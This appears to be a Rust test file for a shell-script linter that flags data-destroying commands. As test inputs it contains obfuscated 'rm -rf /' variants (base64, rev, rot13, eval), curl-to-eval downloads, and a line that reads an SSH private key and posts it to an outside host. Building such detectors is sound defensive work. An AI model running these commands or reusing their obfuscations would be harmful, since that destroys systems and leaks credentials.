//! What is known of words inside other shells. Values across lines are tested where rules use them.

use crate::rules::tests::check_marks;
use std::fmt::Write;

#[test]
fn an_inner_shell_has_arguments_of_its_own() {
    check_marks(
        r#"
set -- /srv/app
sh -c 'rm -rf "$1"' _ /
#             ^^^^ CARO0101
sh -c 'rm -rf "$1"' _ ./build
bash -s / <<'E'
rm -rf "$1"
E
#mark 5 7 11 CARO0101
find build -exec sh -c 'rm -rf "$1"' _ {} \;
xargs sh -c 'rm -rf "$1"/x' _
"#,
    );
}

#[test]
fn what_a_container_may_lose_is_said_to_be_there() {
    let document = crate::Document::new("docker run --rm alpine rm -rf /\n", crate::script::Dialect::Bash);
    let report = crate::rules::check(&document, None);
    let found: Vec<_> = report.findings().iter().map(|it| (it.level, it.message.as_str())).collect();
    assert_eq!(found, [(crate::rules::Level::Caution, "in the container: deletes the whole system")]);
}

#[test]
fn variables_are_set_in_many_ways() {
    check_marks(
        r#"
((n = 5)); rm -rf "/$n"
let m=3; rm -rf "/$m"
for ((k=0;k<3;k++)); do rm -rf "/$k"; done
printf -v p x; rm -rf "/$p"
echo $((z=4)); rm -rf "/$z"
: "${w:=x}"; rm -rf "/$w"
declare -n ref=n; rm -rf "/$ref"
a[0]=x; rm -rf "/${a[0]}"
declare -A mm; mm[k]=v; rm -rf "/${mm[k]}"
coproc CC { cat; }; rm -rf "/$CC_PID"
exec {fd}>x; rm -rf "/$fd"
select s in a b; do rm -rf "/$s"; done
read -r -a arr < x; rm -rf "/${arr[0]}"
mapfile -t lines < x; rm -rf "/${lines[0]}"
((i++)) || :; rm -rf "/$i"
eval "ev=5"; rm -rf "/$ev"
eval "$(ssh-agent)"; rm -rf "/$SSH_AGENT_PID"
typeset -i ti; ti=3; rm -rf "/$ti"
[[ a =~ (b) ]]; rm -rf "/${BASH_REMATCH[1]}"
while ((c < 3)); do ((c++)); rm -rf "/$c"; done
"#,
    );
    check_marks(
        r#"
(( n == 5 )); rm -rf "/$n"
#                    ^^^^^ CARO0101
sh -c 'x=5'; rm -rf "/$x"
#                   ^^^^^ CARO0101
"#,
    );
}

#[test]
fn flags_and_commands_may_stand_in_variables() {
    check_marks(
        r#"
F=-rf; rm $F /
#            ^ CARO0101
cmd=(rm -rf); "${cmd[@]}" /etc
#                         ^^^^ CARO0101
cmd+=(/usr); "${cmd[@]}"
#            ^^^^^^^^^^^ CARO0101
C="rm -rf"; $C /
#              ^ CARO0101
r=r; m=m; $r$m -rf /
#                  ^ CARO0101
rm${IFS}-rf${IFS}/
#mark 6 0 18 CARO0101
$(printf '\x72\x6d') -rf /
#                        ^ CARO0101
$SUDO rm -rf /etc
#            ^^^^ CARO0101
{rm,-rf,/}
#mark 9 0 10 CARO0101
set -- -rf /; rm "$@"
#                ^^^^ CARO0101
if x; then D=echo; fi
$D hello -rf /
run=echo; $run rm -rf /
cmd=(ls -l); "${cmd[@]}" /etc
"#,
    );
}

#[test]
fn text_is_run_as_what_it_becomes() {
    check_marks(
        r#"
C='true; rm -rf /'; eval "$C"
#                        ^^^^ CARO0101
sh -c "$C"
#     ^^^^ CARO0101
echo cm0gLXJmIC8= | base64 -d | sh
#                               ^^ CARO0101
x=$(echo cm0gLXJmIC8= | base64 --decode); eval $x
#                                              ^^ CARO0101
bash <<< "$(echo '/ fr- mr' | rev)"
#mark 5 0 4 CARO0101
echo 'rm -rf /' > x.sh; bash x.sh
#                            ^^^^ CARO0101
. ./x.sh
# ^^^^^^ CARO0101
printf 'rm -rf %s' / | sh
#                      ^^ CARO0101
echo 'eN -Ro /' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh
echo / | xargs rm -rf
#              ^^ CARO0101
eval "x=5"; rm -rf "/$x"
echo 'D=/; A=1' > vars; . ./vars; rm -rf "$D"
#                                        ^^^^ CARO0101
echo "$C" > notes; cat notes
"#,
    );
}

#[derive(Debug)]
struct Shelf(&'static [(&'static str, &'static str)]);

impl crate::flow::Library for Shelf {
    fn find(&self, path: &str) -> Option<crate::flow::Sourced> {
        let (_, text) = self.0.iter().find(|it| it.0 == path)?;
        let chunks = crate::script::parse_text(text, crate::script::Dialect::Bash).into();
        Some(crate::flow::Sourced { stamp: text.len() as u64, chunks })
    }
}

#[test]
fn a_sourced_file_says_what_is_set() {
    let shelf = Shelf(&[
        ("lib/paths.sh", "ROOT=/srv/app\nCACHE=\nwipe() { rm -rf \"$1\"/*; }\n[ -n \"$X\" ] || return\nlate=1\n"),
        ("./die.sh", "oops() { echo \"$1\" >&2; exit 1; }\n"),
    ]);
    let found = |text: &str| {
        let document = crate::Document::new(text, crate::script::Dialect::Bash);
        let report = crate::rules::check_with(&document, None, Some(&shelf));
        let found = report.findings().iter();
        found.map(|it| format!("{}: {}", &text[it.span.start..it.span.end], it.message)).collect::<Vec<_>>()
    };
    let here = "here=$(cd \"$(dirname \"$0\")\" && pwd)\n. \"$here/lib/paths.sh\"\n";
    assert_eq!(found(&format!("{here}rm -rf \"$ROOT\"/*")), [""; 0]);
    assert_eq!(found(&format!("{here}rm -rf \"$CACHE\"/*")).len(), 1);
    assert_eq!(found(&format!("{here}wipe \"$ROOT\"")), [""; 0]);
    assert!(found(&format!("{here}wipe \"$NONE\""))[0].starts_with("wipe \"$NONE\": deletes the whole system"));
    assert_eq!(found(". ./die.sh\nD=$1\n[ -n \"$D\" ] || oops no\nrm -rf \"$D\"/*"), [""; 0]);
    assert_eq!(found(". ./die.sh\nD=$1\n[ -n \"$D\" ] || echo no\nrm -rf \"$D\"/*").len(), 1);
}

/// Whether something is lost, and the script; each line is one that people write.
#[test]
fn values_reach_the_line_that_deletes() {
    let scripts = [
        (
            true,
            r##"while getopts "d:v" o; do case $o in d) DIR=$OPTARG;; v) V=1;; esac; done
rm -rf "$DIR"/*"##,
        ),
        (
            false,
            r##"DIR=/srv/x
while getopts "d:v" o; do case $o in d) DIR=$OPTARG;; esac; done
rm -rf "$DIR"/*"##,
        ),
        (
            true,
            r##"while [ $# -gt 0 ]; do case "$1" in -d) DIR=$2; shift 2;; *) shift;; esac; done
rm -rf "$DIR"/*"##,
        ),
        (
            false,
            r##"while [ $# -gt 0 ]; do case "$1" in -d) DIR=$2; shift 2;; *) shift;; esac; done
[ -z "$DIR" ] && { echo no; exit 1; }
rm -rf "$DIR"/*"##,
        ),
        (
            false,
            r##"if [ "$#" -ne 1 ]; then echo usage; exit 2; fi
rm -rf "$1"/*"##,
        ),
        (
            false,
            r##"(( $# == 1 )) || exit 1
rm -rf "$1"/*"##,
        ),
        (
            false,
            r##"[[ $# -lt 1 ]] && usage
rm -rf "$1"/*"##,
        ),
        (
            false,
            r##"usage() { echo x; exit 1; }
[[ -z ${1:-} ]] && usage
rm -rf "$1"/*"##,
        ),
        (
            true,
            r##"usage() { echo x; }
[[ -z ${1:-} ]] && usage
rm -rf "$1"/*"##,
        ),
        (
            false,
            r##"d=$(mktemp -d)
trap "rm -rf $d" EXIT
rm -rf "$d"/*"##,
        ),
        (
            true,
            r##"d=$(cat /etc/foo.path)
rm -rf $d/*"##,
        ),
        (
            false,
            r##"d=$(cat /etc/foo.path) || exit 1
test -n "$d" || exit 1
rm -rf $d/*"##,
        ),
        (
            false,
            r##"case "$1" in "") exit 1;; /*) ;; *) exit 2;; esac
rm -rf "$1"/*"##,
        ),
        (
            false,
            r##"DIR="${1:?need dir}"
rm -rf "$DIR"/*"##,
        ),
        (
            false,
            r##"DIR="${1:-$HOME/.cache/x}"
rm -rf "$DIR"/*"##,
        ),
        (
            true,
            r##"cd "$1"
rm -rf *"##,
        ),
        (
            true,
            r##"cd "$1" || { echo fail; exit 1; }
rm -rf ./*"##,
        ),
        (
            false,
            r##"set -e
cd /srv/app
rm -rf ./*"##,
        ),
        (false, r##"(cd /srv/app && rm -rf ./*)"##),
        (true, r##"(cd /srv/app; rm -rf ./*)"##),
        (
            false,
            r##"pushd /srv/app || exit
rm -rf ./*
popd"##,
        ),
        (true, r##"for d in "$ROOT"/a "$ROOT"/b; do rm -rf "$d"; done; rm -rf "$ROOT"/*"##),
        (false, r##"ROOT=/srv; for d in a b; do rm -rf "$ROOT/$d"; done"##),
        (
            true,
            r##"f() { local t=$1; rm -rf "$t"/*; }
f"##,
        ),
        (
            false,
            r##"f() { local t=$1; rm -rf "$t"/*; }
f /srv/x/y"##,
        ),
        (
            false,
            r##"f() { [ -n "$1" ] || return 1; rm -rf "$1"/*; }
f "$X""##,
        ),
        (
            true,
            r##"X=
x() { X=/srv/a; }
(x)
rm -rf "$X"/*"##,
        ),
        (
            false,
            r##"X=
x() { X=/srv/a; }
x
rm -rf "$X"/*"##,
        ),
        (
            true,
            r##"readonly T=/
rm -rf "$T""##,
        ),
        (
            true,
            r##"a=/ b=
rm -rf "$a$b""##,
        ),
        (true, r##"x="/"; y="$x"; z=${y}; rm -rf ${z}"##),
        (true, r##"p=/usr/; rm -rf ${p%/}"##),
        (true, r##"p=/usr/local; rm -rf "${p%/*}""##),
        (false, r##"p=/srv/app/cache; rm -rf "${p%/*}""##),
        (true, r##"rm -rf "$(dirname /usr/x)""##),
        (true, r##"export D=/etc; bash -c "rm -rf $D""##),
        (true, r##"export D=/etc; bash -c 'rm -rf $D'"##),
        (true, r##"ls /etc >/dev/null; echo /etc | while read d; do rm -rf "$d"; done"##),
        (false, r##"find . -name "*.o" | while read -r f; do rm -rf "$f"; done"##),
        (true, r##"IFS=: read -r a b <<< "/etc:x"; rm -rf "$a""##),
        (true, r##"mapfile -t a < <(echo /etc); rm -rf "${a[0]}""##),
        (true, r##"declare -A m=([k]=/etc); rm -rf "${m[k]}""##),
        (true, r##"if true; then D=/; fi; rm -rf "$D""##),
        (false, r##"if false; then D=/; else D=/srv/x; fi; rm -rf "$D""##),
        (true, r##"rm -rf "${D:+$D/}"*"##),
        (false, r##"[ -d "$D" ] && rm -rf "$D"/*"##),
        (true, r##"[ -d "$D" ] ; rm -rf "$D"/*"##),
        (false, r##"if [ -n "$D" ] && [ -d "$D" ]; then rm -rf "$D"/*; fi"##),
        (true, r##"if [ -n "$D" ] || [ -d "$D" ]; then :; fi; rm -rf "$D"/*"##),
        (false, r##"[ "${D:-}" ] || exit; rm -rf "$D"/*"##),
        (false, r##"test -z "$D" && exit 1; rm -rf "$D"/*"##),
        (false, r##"if ! [ -n "$D" ]; then exit 1; fi; rm -rf "$D"/*"##),
        (false, r##"[[ -n $D && $D != / ]] || exit 1; rm -rf "$D"/*"##),
        (false, r##"[[ $D =~ ^/srv/ ]] || exit 1; rm -rf "$D"/*"##),
        (false, r##"[[ $D == /srv/* ]] || exit 1; rm -rf "$D"/*"##),
        (
            false,
            r##"die() { echo "$*" >&2; exit 1; }
[ -n "$D" ] || die no
rm -rf "$D"/*"##,
        ),
        (
            false,
            r##"D=$(git rev-parse --show-toplevel) || exit
rm -rf "$D"/build/*"##,
        ),
        (
            true,
            r##"main() { rm -rf "$BASE"/*; }
main "$@""##,
        ),
        (
            false,
            r##"main() { rm -rf "$BASE"/*; }
BASE=/srv/x/y
main "$@""##,
        ),
        (true, r##"cmd="rm -rf"; target=/; $cmd $target"##),
        (true, r##"opts=(-r -f); rm "${opts[@]}" /"##),
        (true, r##"c=rm; "$c" -rf /"##),
        (true, r##"eval "rm -rf $undefined/""##),
        (true, r##"x=$(printf "%s" "rm -rf /"); sh -c "$x""##),
        (true, r##"a=r;b=m;"$a$b" -rf /etc"##),
        (true, r##"alias wipe="rm -rf /""##),
        (true, r##"parallel rm -rf ::: /etc /usr"##),
        (true, r##"echo "/etc /usr" | xargs rm -rf"##),
        (true, r##"printf "%s\n" /etc | xargs -I{} rm -rf {}"##),
        (true, r##"printf '/etc\0' | xargs -0 rm -rf"##),
        (true, r##"x=/; while :; do rm -rf "$x"; break; done"##),
        (
            false,
            r##"echo "rm -rf /"; cat <<E
rm -rf /
E"##,
        ),
        (
            true,
            r##"cat <<E | bash
rm -rf /
E"##,
        ),
        (
            true,
            r##"cat > /tmp/x.sh <<E
rm -rf /
E
bash /tmp/x.sh"##,
        ),
        (true, r##"D=/; D2="${D}"; [ -e "$D2" ] && rm -rf "$D2""##),
        (true, r##"until false; do rm -rf /; done"##),
        (false, r##"exit 0; rm -rf /"##),
        (false, r##"if [ "$1" = x ]; then exit 0; else exit 1; fi; rm -rf /"##),
        (
            false,
            r##"return 0 2>/dev/null || exit 0
rm -rf /"##,
        ),
        (true, r##"trap "rm -rf /" EXIT"##),
        (true, r##"nohup sh -c "sleep 1; rm -rf /" &"##),
        (true, r##"coproc rm -rf /"##),
        (true, r##"time rm -rf /"##),
        (true, r##"! rm -rf /"##),
        (true, r##"x=$(rm -rf /)"##),
        (true, r##"diff <(rm -rf /) x"##),
        (true, r##"[[ -n $(rm -rf /) ]]"##),
        (true, r##"if rm -rf /; then :; fi"##),
        (true, r##"select x in /etc; do rm -rf "$x"; done"##),
        (true, r##"D=${1%/}; rm -rf "$D"/*"##),
        (false, r##"TMP=${TMPDIR:-/tmp}/x.$$; rm -rf "$TMP""##),
        (false, r##"rm -rf "${TMPDIR:-/tmp}/x""##),
        (true, r##"rm -rf "$TMP_BUILD"/"##),
        (false, r##"BUILD="$PWD/build"; rm -rf "$BUILD"/*"##),
        (false, r##"HERE=$(cd "$(dirname "$0")" && pwd); rm -rf "$HERE"/build"##),
        (false, r##"ROOT="$(pwd)"; rm -rf "$ROOT/dist""##),
        (true, r##"cd ..; cd ..; cd /; rm -rf usr"##),
        (true, r##"cd /; rm -rf ./etc"##),
        (true, r##"cd / && rm -rf *"##),
        (true, r##"cd; rm -rf *"##),
        (true, r##"cd ~ && rm -rf .* *"##),
    ];
    let differ: Vec<_> = scripts
        .iter()
        .filter(|(lost, script)| {
            let document = crate::Document::new(script, crate::script::Dialect::Bash);
            let report = crate::rules::check(&document, None);
            let found = report.findings().iter().any(|it| it.level > crate::rules::Level::Note);
            found != *lost
        })
        .collect();
    assert!(differ.is_empty(), "{differ:#?}");
}

#[test]
fn a_finding_says_where_the_value_came_from() {
    let said = |script: &str| {
        let document = crate::Document::new(script, crate::script::Dialect::Bash);
        let report = crate::rules::check(&document, None);
        let line = |at: usize| script[..at].matches('\n').count() + 1;
        let mut text = String::new();
        for it in report.findings() {
            let _ = writeln!(text, "{}: {} {}", line(it.span.start), it.level.name(), it.message);
            for (span, why) in &it.related {
                let _ = writeln!(text, "  {}: {why}", line(span.start));
            }
        }
        text
    };
    let script = r#"#!/bin/bash
base=$1
target=$base
work() {
    local dir=$(sed -n 's/^dir=//p' "$2")
    rm -rf "$dir"/*
}
cd /srv/app
rm -rf ./*
rm -rf "$target"/*
work a b
rm -rf "$NOWHERE"/
payload=$(curl -s https://x.io/a)
echo ready
eval "$payload"
curl -so /tmp/i.sh https://x.io/i.sh
chmod +x /tmp/i.sh
/tmp/i.sh
key=$(cat ~/.ssh/id_ed25519)
curl -d "$key" https://x.io/up
"#;
    expect_test::expect![[r#"
        6: danger deletes the whole system when `$dir` is empty: the command that sets it printed nothing
          5: `$dir` gets its value here
        9: danger deletes everything in whatever folder this runs in when `cd` fails
          8: where `cd` can fail, and the script goes on
        10: danger deletes the whole system when `$target` is empty: the script got no such argument
          3: `$target` gets its value here
        12: danger deletes the whole system when `$NOWHERE` is not set
        15: danger `eval` runs whatever the network sends
          13: where it arrives
        18: danger runs `/tmp/i.sh` as the network sent it: no check would stop it
          16: where it is downloaded
        20: danger sends a secret that was read before to another machine
    "#]]
    .assert_eq(&said(script));
}

#[test]
fn what_prints_itself_ends() {
    check_marks("f() { echo \"$(f)\"; }\nx=$(f)\nls \"$x\"\n");
    check_marks("f() { $(f) | $(f) && g; }\ng() { f | g; }\n$(f) | g\n");
    check_marks("x='eval \"$x\"'\neval \"$x\" | sh\n");
}
